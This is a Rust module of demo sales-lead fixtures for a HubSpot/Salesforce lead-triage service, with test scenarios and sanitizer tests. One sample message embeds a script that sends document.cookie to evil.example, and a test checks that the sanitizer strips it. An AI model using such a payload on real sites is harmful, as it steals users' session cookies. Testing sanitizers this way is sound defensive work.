//! The eleven leads of the demo: who writes what, what happens around it, and how it must end.
//!
//! Told to HubSpot by a form, most reach the desk as HubSpot's workflow action "send a webhook" posts them: the contact
//! record with every property's value and versions (`developers.hubspot.com`, legacy contact record). One lives in
//! Salesforce, whose simulator makes its outbound message.

use serde_json::{Value, json};

use crate::model::Label;

/// The account the leads live in.
pub(super) const PORTAL: u32 = 62_515;

/// Who fills in the form.
#[derive(Debug, Clone, Copy)]
pub(super) struct Person {
    pub(super) first: &'static str,
    pub(super) last: &'static str,
    pub(super) email: &'static str,
    pub(super) phone: &'static str,
    pub(super) record: Record,
}

/// Where a lead lives.
#[derive(Debug, Clone, Copy)]
pub(super) enum Record {
    /// HubSpot's id of a contact.
    Hubspot(u32),
    /// Salesforce's id of a lead.
    Salesforce(&'static str),
}

/// What happens around a lead.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Around {
    /// Nothing.
    Nothing,
    /// The modem is unplugged before it comes, and plugged in afterwards.
    ModemUnplugged,
    /// The first model's server is down.
    ModelDown,
    /// The option of its class is removed in HubSpot before it comes; that is mended, and the dead letter requeued.
    OptionRemoved(Label),
}

/// What an action must come to: kind, channel, state.
pub(super) type WantedAction = (&'static str, &'static str, &'static str);

/// How a sample must end.
#[derive(Debug, Clone, Copy)]
pub(super) enum Want {
    /// A lead of this class, with these actions.
    Lead(Label, &'static [WantedAction]),
    /// A duplicate of the first sample.
    Duplicate,
    /// No lead: a dead letter of the gate.
    GateFailed,
}

/// One lead of the demo.
#[derive(Debug, Clone, Copy)]
pub(super) struct Sample {
    /// Its name for machines.
    pub(super) name: &'static str,
    /// Its name for people.
    pub(super) title: &'static str,
    /// Why it is here.
    pub(super) about: &'static str,
    pub(super) person: Person,
    /// What the form sends; nothing at all if somebody renamed its field.
    pub(super) message: Option<&'static str>,
    pub(super) around: Around,
    /// The status the sender must get.
    pub(super) answer: u16,
    pub(super) want: Want,
}

/// A channel that hangs on how fast this machine is.
pub(super) const EITHER: &str = "either";
const BY_EITHER: WantedAction = ("sms", EITHER, "done");
/// The text that calls somebody, or what whoever answers is told.
const BY_MODEM: WantedAction = ("sms", "modem", "done");
/// The follow-up to who only asks, and the case of who needs help.
const MAIL: WantedAction = ("mail", "smtp", "done");
const CASE: WantedAction = ("ticket", "zendesk", "done");
const FIELDS: WantedAction = ("crm_update", "hubspot", "done");
const NOTE: WantedAction = ("crm_note", "hubspot", "done");
const SF_FIELDS: WantedAction = ("crm_update", "salesforce", "done");
const SF_NOTE: WantedAction = ("crm_note", "salesforce", "done");

const MARIA: Person = Person {
    first: "Maria",
    last: "Keller",
    email: "maria.keller@keller-freight.example",
    phone: "+49 30 901820",
    record: Record::Hubspot(101),
};

const WANTED_NOW: &str = "We need a quote for 50 handheld scanners by tomorrow noon. The budget is approved, \
and I can sign this week.";

const FROM_WORD: &str = "<div class=\"WordSection1\"><style>p.MsoNormal{margin:0cm;color:#1F497D}</style>\
<p class=\"MsoNormal\">Hello&nbsp;team,<o:p></o:p></p><p class=\"MsoNormal\">we <b>want&nbsp;to&nbsp;order</b> 20&nbsp;scanners \
&amp;&nbsp;2&nbsp;docks, budget 9&nbsp;000&nbsp;&euro;, deli\u{200b}very by&nbsp;Friday.</p>\
<script>fetch('https://evil.example/'+document.cookie)</script><!-- [if gte mso 9] --></div>";

/// The leads, in the order in which they come.
pub(super) const SAMPLES: [Sample; 11] = [
    Sample {
        name: "urgent",
        title: "A buyer with a date",
        about: "Somebody who wants to buy, tomorrow. A person must know now.",
        person: MARIA,
        message: Some(WANTED_NOW),
        around: Around::Nothing,
        answer: 202,
        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, FIELDS, NOTE, NOTE]),
    },
    Sample {
        name: "tire-kicker",
        title: "Somebody who looks around",
        about: "Nobody is woken for this: a mail with the right links goes out by itself.",
        person: Person {
            first: "Tom",
            last: "Okafor",
            email: "tom.okafor@mail.example",
            phone: "+44 20 7946 0018",
            record: Record::Hubspot(102),
        },
        message: Some(
            "How does your scanner compare to the free ones that use a phone's camera? No plans yet, I'm just curious.",
        ),
        around: Around::Nothing,
        answer: 202,
        want: Want::Lead(Label::TireKicker, &[MAIL, FIELDS, NOTE]),
    },
    Sample {
        name: "support",
        title: "A customer in trouble",
        about: "Loud, but not a sale: the support team gets it, and it leaves the sales queue.",
        person: Person {
            first: "Ines",
            last: "Duarte",
            email: "ines@duarte-pharma.example",
            phone: "+351 21 792 0010",
            record: Record::Hubspot(103),
        },
        message: Some(
            "URGENT!!! Since the update three of our scanners crash when we log in. My account is DU-4711, please fix this.",
        ),
        around: Around::Nothing,
        answer: 202,
        want: Want::Lead(Label::SupportRequest, &[CASE, FIELDS, NOTE]),
    },
    Sample {
        name: "spam",
        title: "Somebody who wants to sell to us",
        about: "Recorded and dropped. Nobody hears of it; it can be restored.",
        person: Person {
            first: "Growth",
            last: "Team",
            email: "hello@rank-rocket.example",
            phone: "",
            record: Record::Hubspot(104),
        },
        message: Some(
            "We offer guaranteed SEO backlinks: rank #1 within a week! Limited quote, only valid until tomorrow. \
             http://rank-rocket.example/buy",
        ),
        around: Around::Nothing,
        answer: 202,
        want: Want::Lead(Label::Spam, &[FIELDS]),
    },
    Sample {
        name: "html-mess",
        title: "A mess of HTML",
        about: "Pasted from Word, with a script in it. The model and the phone get what a person typed.",
        person: Person {
            first: "Jean",
            last: "Rousseau",
            email: "j.rousseau@entrepot-sud.example",
            phone: "+33 4 96 11 00 10",
            record: Record::Hubspot(105),
        },
        message: Some(FROM_WORD),
        around: Around::Nothing,
        answer: 202,
        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, FIELDS, NOTE, NOTE]),
    },
    Sample {
        name: "duplicate",
        title: "The first one again",
        about: "HubSpot retries what it believes was lost: the same lead, signed anew. Nobody is woken twice.",
        person: MARIA,
        message: Some(WANTED_NOW),
        around: Around::Nothing,
        answer: 200,
        want: Want::Duplicate,
    },
    Sample {
        name: "no-message",
        title: "A form without a message",
        about: "Somebody renamed the form's field. Not lost: a dead letter that can be requeued once that is mended.",
        person: Person {
            first: "Yuki",
            last: "Tanaka",
            email: "y.tanaka@kita-logi.example",
            phone: "+81 3-6630-0010",
            record: Record::Hubspot(107),
        },
        message: None,
        around: Around::Nothing,
        answer: 200,
        want: Want::GateFailed,
    },
    Sample {
        name: "modem-unplugged",
        title: "A buyer while the modem is unplugged",
        about: "Somebody tripped over the cable. The text must leave all the same.",
        person: Person {
            first: "Sam",
            last: "Whitfield",
            email: "sam@whitfield-cold.example",
            phone: "+1 303 555 0142",
            record: Record::Hubspot(108),
        },
        message: Some(
            "Our scanners were stolen last night. We want to buy 12 new ones today, the price hardly matters. \
             Who can call me right away?",
        ),
        around: Around::ModemUnplugged,
        answer: 202,
        want: Want::Lead(
            Label::UrgentBuyer,
            &[
                ("sms", "modem", "cancelled"),
                // Lee is called, Lee is told all there is, Dana is told that Lee has it: by the modem, if it is back.
                BY_EITHER,
                BY_EITHER,
                BY_EITHER,
                ("sms", "twilio", "done"),
                FIELDS,
                NOTE,
                NOTE,
            ],
        ),
    },
    Sample {
        name: "crm-refuses",
        title: "HubSpot refuses the write",
        about: "Somebody removed an option in HubSpot, so its answer is 400. Trying again wouldn't help: a dead letter.",
        person: Person {
            first: "Amara",
            last: "Nwosu",
            email: "amara.nwosu@school.example",
            phone: "+1 303 555 0178",
            record: Record::Hubspot(109),
        },
        message: Some(
            "I teach logistics and am wondering: what is the difference between 1D and 2D scanners? \
             Nothing has been decided.",
        ),
        around: Around::OptionRemoved(Label::TireKicker),
        answer: 202,
        want: Want::Lead(Label::TireKicker, &[MAIL, FIELDS, NOTE]),
    },
    Sample {
        name: "salesforce",
        title: "A buyer who lives in Salesforce",
        about: "Another team works in another CRM. Same desk, same phone; each lead goes back where it came from.",
        person: Person {
            first: "Noor",
            last: "Haddad",
            email: "noor.haddad@portside.example",
            phone: "+31 10 808 0010",
            record: Record::Salesforce("00Q5e000001NoorEAC"),
        },
        message: Some(
            "We must replace 30 scanners by Friday and have a budget of 12,000 euro. Please send me a quote today.",
        ),
        around: Around::Nothing,
        answer: 200,
        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, SF_FIELDS, SF_NOTE, SF_NOTE]),
    },
    Sample {
        name: "second-model",
        title: "A buyer while the model is down",
        about: "The server of the first model doesn't answer. The next one on the list is asked, within the same seconds.",
        person: Person {
            first: "Kofi",
            last: "Mensah",
            email: "kofi@mensah-parcels.example",
            phone: "+1 303 555 0163",
            record: Record::Hubspot(111),
        },
        message: Some("Please call me today: we want to buy 15 scanners this week, and the budget is approved."),
        around: Around::ModelDown,
        answer: 202,
        want: Want::Lead(Label::UrgentBuyer, &[BY_MODEM, BY_MODEM, FIELDS, NOTE, NOTE]),
    },
];

impl Sample {
    /// What HubSpot posts about this contact.
    pub(super) fn payload(&self, contact: u32) -> Value {
        let person = &self.person;
        let property = |value: &str| json!({ "value": value, "versions": [{ "value": value, "source-type": "FORM" }] });
        let mut properties = json!({
            "firstname": property(person.first),
            "lastname": property(person.last),
            "email": property(person.email),
            "phone": property(person.phone),
        });
        if let (Some(message), Some(map)) = (self.message, properties.as_object_mut()) {
            map.insert("message".to_owned(), property(message));
        }
        json!({
            "vid": contact,
            "portal-id": PORTAL,
            "is-contact": true,
            "properties": properties,
            "identity-profiles": [{ "vid": contact, "identities": [{ "type": "EMAIL", "value": person.email }] }],
        })
    }
}

#[cfg(test)]
mod tests {
    use super::super::sim::llm::label_of;
    use super::*;
    use crate::sanitize;

    #[test]
    fn the_simulated_model_gets_every_sample_right() {
        for sample in SAMPLES {
            if let (Want::Lead(label, _), Some(message)) = (sample.want, sample.message) {
                let clean = sanitize::clean(message, &sanitize::Settings::default());
                assert_eq!(label_of(clean.as_str()), label.name(), "{}: {clean}", sample.name);
            }
        }
    }

    #[test]
    fn every_class_every_twist_and_no_two_alike() {
        let labels = |label| SAMPLES.iter().any(|sample| matches!(sample.want, Want::Lead(known, _) if known == label));
        assert!(Label::ALL.into_iter().all(labels));
        let mut names = SAMPLES.map(|sample| sample.name).to_vec();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), SAMPLES.len());
        assert_eq!(SAMPLES[5].payload(101), SAMPLES[0].payload(101), "a duplicate is one");
    }

    #[test]
    fn the_mess_is_one() {
        let clean = sanitize::clean(FROM_WORD, &sanitize::Settings::default());
        assert!(
            !clean.as_str().contains(['<', '&', '\u{200b}']) || clean.as_str().contains("20 scanners & 2"),
            "{clean}"
        );
        assert!(!clean.as_str().contains("evil"), "{clean}");
    }
}
